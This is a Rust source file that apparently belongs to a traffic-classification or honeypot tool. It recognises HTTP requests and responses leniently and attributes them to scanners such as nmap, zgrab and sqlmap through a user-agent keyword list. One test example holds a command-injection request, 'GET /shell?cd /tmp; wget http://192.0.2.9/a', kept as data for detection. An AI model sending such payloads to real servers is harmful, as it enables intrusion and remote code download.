//! HTTP/0.9 to HTTP/1.1 and the preface of HTTP/2 (RFC 9110, RFC 9112, RFC 9113).
//!
//! Heads are read leniently: what scanners and worms send is often cut, and their targets hold
//! blanks and bytes that no grammar allows.

use super::{Carrier, Protocol};
use crate::cursor::Cursor;
use crate::found::{CERTAIN, LIKELY, Match, STRONG};
use crate::pattern::Test::{Is, Long};
use crate::pattern::{Pattern, client, server};
use crate::payload::{Payload, Side};
use crate::text::{contains, first_line, header, is_graphic, is_text, product, strip, words};

pub(super) const PROTOCOL: Protocol = Protocol {
    name: "http",
    title: "hypertext transfer",
    title_zh: "超文本传输",
    aliases: &["http2"],
    carrier: Carrier::Tcp,
    ports: &[
        80, 81, 591, 3128, 5985, 7547, 8000, 8008, 8080, 8081, 8088, 8888,
    ],
    recognise: Some(recognise),
    patterns: CUT,
};

/// What is left of it in payloads that are cut.
const CUT: &[Pattern] = &[
        client(&[Is(0, b"GET "), Long(4, 4)]),
        client(&[Is(0, b"POST /")]),
        client(&[Is(0, b"HEAD /")]),
        client(&[Is(0, b"PUT /")]),
        client(&[Is(0, b"PRI * HTTP/2.0")]),
        server(&[Is(0, b"HTTP/1.")]),
        client(&[Is(0, b"DELETE /")]),
        client(&[Is(0, b"PROPFIND /")]),
                client(&[Is(0, b"CONNECT ")]).at_port(),
];

const METHODS: [&[u8]; 24] = [
    b"GET",
    b"POST",
    b"HEAD",
    b"OPTIONS",
    b"PUT",
    b"DELETE",
    b"CONNECT",
    b"TRACE",
    b"PATCH",
    b"PROPFIND",
    b"PROPPATCH",
    b"MKCOL",
    b"COPY",
    b"MOVE",
    b"LOCK",
    b"UNLOCK",
    b"SEARCH",
    b"REPORT",
    b"MERGE",
    b"SUBSCRIBE",
    b"UNSUBSCRIBE",
    b"NOTIFY",
    b"PURGE",
    b"DEBUG",
];

fn recognise<'a>(payload: &Payload<'a>) -> Option<Match<'a>> {
    let bytes = payload.bytes;
    if bytes.starts_with(b"PRI * HTTP/2.0\r\n") {
        return Some(Match::new(CERTAIN, Side::Client).word("version", "2"));
    }
    if strip(bytes, b"HTTP/").is_some() {
        return answer(bytes);
    }
    request(bytes)
        .or_else(|| settings(payload))
        .or_else(|| page(payload))
}

/// The server's first frame of HTTP/2 (RFC 9113, sections 4.1 and 6.5): settings of the connection
/// as a whole, six bytes each, numbered from 1.
fn settings<'a>(payload: &Payload<'a>) -> Option<Match<'a>> {
    const SETTINGS: u8 = 4;
    let mut walk = Cursor(payload.bytes);
    let length = usize::try_from(walk.be24()?).ok()?;
    let [SETTINGS, 0, 0, 0, 0, 0] = walk.array()? else {
        return None;
    };
    let count = length / 6;
    let is_list = length.is_multiple_of(6) && (1..=32).contains(&count);
    let numbered = walk
        .take(length)?
        .chunks_exact(6)
        .all(|setting| matches!(setting, [0, 1..=16, ..]));
    let fits = is_list && numbered && payload.may_be(Side::Server);
    fits.then(|| Match::new(STRONG, Side::Server).word("version", "2"))
}

/// A page without a head, as servers answer what they do not understand: the port must agree.
fn page<'a>(payload: &Payload<'a>) -> Option<Match<'a>> {
    let text = payload.bytes.trim_ascii_start();
    let is_page = [&b"<!doctype html"[..], b"<html"]
        .iter()
        .any(|start| strip(text, start).is_some());
    let fits = is_page && payload.is_at(PROTOCOL.ports) && payload.side == Side::Server;
    fits.then(|| Match::new(LIKELY, Side::Server).word("version", "0.9"))
}

/// `HTTP/1.1 200 OK`
fn answer(bytes: &[u8]) -> Option<Match<'_>> {
    let (line, _) = first_line(bytes);
    let mut words = words(line);
    let version = version(words.next()?)?;
    let status = words.next()?;
    let number = std::str::from_utf8(status).ok()?.parse::<u16>().ok()?;
    if status.len() != 3 || !(100..=599).contains(&number) {
        return None;
    }
    let found = Match::new(CERTAIN, Side::Server)
        .word("version", version)
        .number("status", number);
    Some(found.maybe("server", header(bytes, b"Server")))
}

/// `GET / HTTP/1.1`, perhaps after empty lines (RFC 9112, section 2.2).
fn request(bytes: &[u8]) -> Option<Match<'_>> {
    let start = bytes
        .iter()
        .position(|byte| !matches!(byte, b'\r' | b'\n'))?;
    let bytes = bytes.get(start..)?;
    let (line, whole) = first_line(bytes);
    let (method, rest) = line.split_at_checked(memchr::memchr(b' ', line)?)?;
    let rest = rest.get(1..)?;
    let known = METHODS.contains(&method);
    let lower = || METHODS.iter().any(|known| method.eq_ignore_ascii_case(known));
    let custom = || {
        (3..=16).contains(&method.len())
            && method.iter().all(|byte| byte.is_ascii_uppercase() || *byte == b'-')
            || lower()
    };
    let (target, last) = match memchr::memrchr(b' ', rest) {
        Some(at) => (rest.get(..at)?, rest.get(at + 1..)?),
        None => (rest, &b""[..]),
    };
    let found = match version(last) {
        Some(version) if known || custom() => {
            let probability = if known { CERTAIN } else { STRONG };
            Match::new(probability, Side::Client).word("version", version)
        }
        // HTTP/0.9, or a line that is cut.
        None if known && begins_target(method, rest) && is_text(rest) => {
            if !whole {
                // Cameras are asked for their options in the same words.
                if method == b"OPTIONS" {
                    return None;
                }
                let sure = if rest.len() >= 4 { STRONG } else { LIKELY };
                return Some(method_and_target(
                    Match::new(sure, Side::Client),
                    method,
                    rest,
                ));
            }
            if method != b"GET" || !is_graphic(rest) {
                return None;
            }
            return Some(method_and_target(
                Match::new(STRONG, Side::Client),
                method,
                rest,
            ));
        }
        _ => return None,
    };
    let agent = header(bytes, b"User-Agent");
    let found = method_and_target(found, method, target)
        .maybe("host", header(bytes, b"Host"))
        .maybe("user_agent", agent);
    Some(
        match (
            tool_of_target(target),
            agent.filter(|agent| !agent.is_empty()),
        ) {
            (Some(tool), _) => found.by(tool, None),
            (None, Some(agent)) => name_agent(found, agent),
            (None, None) => found,
        },
    )
}

fn method_and_target<'a>(found: Match<'a>, method: &'a [u8], target: &'a [u8]) -> Match<'a> {
    found.text("method", method).text("target", target)
}

fn version(word: &[u8]) -> Option<&'static str> {
    let mut upper = [0; 8];
    let word = match upper.get_mut(..word.len()) {
        Some(upper) => {
            upper.copy_from_slice(word);
            upper.make_ascii_uppercase();
            &*upper
        }
        None => word,
    };
    match word {
        b"HTTP/1.1" => Some("1.1"),
        b"HTTP/1.0" => Some("1.0"),
        b"HTTP/0.9" => Some("0.9"),
        // Some worms ask so.
        b"HTTP/1.2" => Some("1.2"),
        b"HTTP/2" | b"HTTP/2.0" => Some("2"),
        _ => None,
    }
}

/// Whether a request for this may begin so: a path, an address, an authority, or an asterisk.
fn begins_target(method: &[u8], target: &[u8]) -> bool {
    target.starts_with(b"/")
        || target.starts_with(b"http://")
        || target.starts_with(b"https://")
        || method == b"CONNECT" && target.contains(&b':')
}

/// Requests that only one tool makes.
fn tool_of_target(target: &[u8]) -> Option<&'static str> {
    (target == b"/nice%20ports%2C/Tri%6Eity.txt%2ebak"
        || target == b"/nice%20ports,/Tri%6Eity.txt%2ebak")
        .then_some("nmap")
}

/// Words of a user agent that name a tool behind whatever it claims to be.
const TOOLS: [(&[u8], &str); 39] = [
    (b"shodan", "shodan"),
    (b"palo alto networks", "expanse"),
    (b"binaryedge", "binaryedge"),
    (b"modatscanner", "modat"),
    (b"odin; https://docs.getodin.com", "odin"),
    (b"onyphe", "onyphe"),
    (b"netcraft", "netcraft"),
    (b"criminalip", "criminal ip"),
    (b"fofa", "fofa"),
    (b"project-resonance", "project resonance"),
    (b"shadowserver", "shadowserver"),
    (b"arachni", "arachni"),
    (b"acunetix", "acunetix"),
    (b"wfuzz", "wfuzz"),
    (b"whatweb", "whatweb"),
    (b"jaeles", "jaeles"),
    (b"zmeu", "zmeu"),
    (b"zgrab", "zgrab"),
    (b"masscan", "masscan"),
    (b"nmap scripting engine", "nmap"),
    (b"nuclei", "nuclei"),
    (b"nikto", "nikto"),
    (b"sqlmap", "sqlmap"),
    (b"gobuster", "gobuster"),
    (b"feroxbuster", "feroxbuster"),
    (b"dirbuster", "dirbuster"),
    (b"wpscan", "wpscan"),
    (b"fuzz faster u fool", "ffuf"),
    (b"httpx - open-source project", "httpx"),
    (b"l9explore", "l9explore"),
    (b"l9tcpid", "l9tcpid"),
    (b"censysinspect", "censys"),
    (b"internetmeasurement", "internet-measurement"),
    (b"expanse", "expanse"),
    (b"netsystemsresearch", "netsystemsresearch"),
    (b"nessus", "nessus"),
    (b"openvas", "openvas"),
    (b"headlesschrome", "headless chrome"),
    (b"leakix", "leakix"),
];

/// Browsers, in the order in which their products must be looked for: each claims to be those
/// that follow.
const BROWSERS: [(&[u8], &str); 6] = [
    (b"Edg/", "edge"),
    (b"OPR/", "opera"),
    (b"SamsungBrowser/", "samsung internet"),
    (b"Chrome/", "chrome"),
    (b"Firefox/", "firefox"),
    (b"Version/", "safari"),
];

/// The program that a user agent names.
pub(super) fn name_agent<'a>(found: Match<'a>, agent: &'a [u8]) -> Match<'a> {
    if let Some((_, tool)) = TOOLS.iter().find(|(word, _)| contains(agent, word)) {
        return found.by(*tool, None);
    }
    if agent.starts_with(b"Mozilla/") {
        for (mark, browser) in BROWSERS {
            if let Some(at) = memchr::memmem::find(agent, mark) {
                let version = product(agent.get(at..).unwrap_or_default()).1;
                return found.by(browser, version);
            }
        }
    }
    match product(agent) {
        (name, Some(version)) => found.by(name, Some(version)),
        // No product at all: the whole of it is the name.
        (_, None) => found.by(agent, None),
    }
}

#[cfg(test)]
pub(super) const EXAMPLES: &[crate::tests::Example] = {
    use crate::tests::{tcp, udp};
    &[
        tcp(
            Side::Server,
            b"\0\0\x12\x04\0\0\0\0\0\0\x03\0\0\0\x80\0\x04\0\x01\0\0\0\x05\0\xff\xff\xff",
        )
        .tells(&[("version", "2")]),
        tcp(Side::Server, b"<html><title>400</title></html>").at(80),
        tcp(Side::Client, b"get / http/1.1\r\n\r\n"),
        tcp(Side::Client, b"M-POST /x HTTP/1.1\r\n\r\n"),
        tcp(Side::Server, b"<html><title>400</title></html>").not(),
        tcp(Side::Server, b"\0\0\x12\x04\0\0\0\0\0\x13\x03\0\0\0\x80\0\x04\0\x01\0\0\0\x05\0\xff\xff\xff").not(),
        tcp(Side::Client, b"GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n")
            .at(80)
            .by("curl")
            .tells(&[("method", "GET"), ("target", "/"), ("host", "example.org"), ("version", "1.1")]),
        tcp(Side::Client, b"GET / HTTP/1.1\r\nHost: 192.0.2.1:2323\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n").by("zgrab"),
        tcp(Side::Client, b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\n\r\n").by("chrome"),
        tcp(Side::Client, b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n").by("nmap"),
        tcp(Side::Client, b"GET / HTTP/1.0\r\n\r\n").tells(&[("version", "1.0")]),
        tcp(Side::Any, b"OPTIONS / HTTP/1.0\r\n\r\n"),
        tcp(Side::Client, b"CONNECT www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n")
            .tells(&[("method", "CONNECT"), ("target", "www.example.org:443")]),
        // A blank in the target, as in many an attempt to run a command.
        tcp(Side::Client, b"GET /shell?cd /tmp; wget http://192.0.2.9/a HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n")
            .by("Hello, world")
            .tells(&[("target", "/shell?cd /tmp; wget http://192.0.2.9/a")]),
        tcp(Side::Client, b"POST /cgi-bin/login HTTP/1.1\r\nContent-Length: 9999\r\nHost: exam").tells(&[("host", "exam")]),
        tcp(Side::Client, b"GET /index.html\r\n"),
        tcp(Side::Client, b"GET /a/very/long/targ"),
        tcp(Side::Client, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00").tells(&[("version", "2")]),
        tcp(Side::Server, b"HTTP/1.1 404 Not Found\r\nServer: nginx\r\n\r\n").tells(&[("status", "404"), ("server", "nginx")]),
        tcp(Side::Any, b"HTTP/1.0 200 OK\r\n"),
        tcp(Side::Client, b"GET /\x01\x02\x03 binary").not(),
        tcp(Side::Client, b"get well soon\r\n").not(),
        tcp(Side::Client, b"GET key\r\n").not(),
        tcp(Side::Server, b"HTTP/1.1 what\r\n").not(),
        udp(Side::Client, b"GET / HTTP/1.1\r\n\r\n").not(),
    ]
};
